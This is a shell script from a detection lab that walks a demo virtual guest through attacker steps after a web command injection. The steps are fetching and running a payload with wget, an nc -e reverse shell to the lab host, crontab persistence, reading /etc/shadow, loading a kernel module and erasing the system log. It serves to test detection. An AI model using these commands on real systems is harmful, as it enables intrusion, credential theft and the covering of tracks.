#!/bin/sh
# The lab's attack scenarios in the demo guest (docs/detection.md, "Live scenarios"): what an attacker does after
# the command injection in /cgi-bin/ping, one step at a time. `vmiscope guest attack` runs each step through that
# injection as
#     echo BASE64-OF-THIS-FILE | base64 -d | LAB_HOST=10.0.2.2 LAB_HTTP_PORT=P LAB_SHELL_PORT=Q sh -s STEP
# LAB_HOST is the host's loopback as QEMU's user networking shows it to the guest; LAB_HTTP_PORT serves the payload
# (/lab-payload) and LAB_SHELL_PORT is the listener for the reverse shell, both on the host's 127.0.0.1 only.
# Plain busybox, as an attacker finds it in the guest.
set -u
case "${1:-}" in
injection)      # a shell started from the web server: who and where am I
    id; uname -sr ;;
download)       # a tool fetched into /tmp, made executable and run
    wget -q -O /tmp/lab-payload "http://$LAB_HOST:$LAB_HTTP_PORT/lab-payload" && chmod +x /tmp/lab-payload \
        && /tmp/lab-payload ;;
reverse-shell)  # a shell whose input and output are a connection to the attacker's listener (busybox nc -e)
    nc "$LAB_HOST" "$LAB_SHELL_PORT" -e /bin/sh </dev/null >/dev/null 2>&1 &
    echo "reverse shell started" ;;
crontab)        # persistence: the payload every five minutes in root's crontab
    { crontab -l 2>/dev/null; echo '*/5 * * * * /tmp/lab-payload'; } | crontab - && crontab -l | tail -1 ;;
shadow)         # credential access: the password hashes
    cat /etc/shadow ;;
module)         # code put into the running kernel (a harmless spare module of the guest)
    insmod "/lib/modules/$(uname -r)/kernel/drivers/net/dummy.ko" && grep '^dummy ' /proc/modules ;;
log-truncation) # the system log erased
    : >/var/log/messages && wc -c /var/log/messages ;;
*)
    echo "usage: sh -s injection|download|reverse-shell|crontab|shadow|module|log-truncation" >&2
    exit 2 ;;
esac
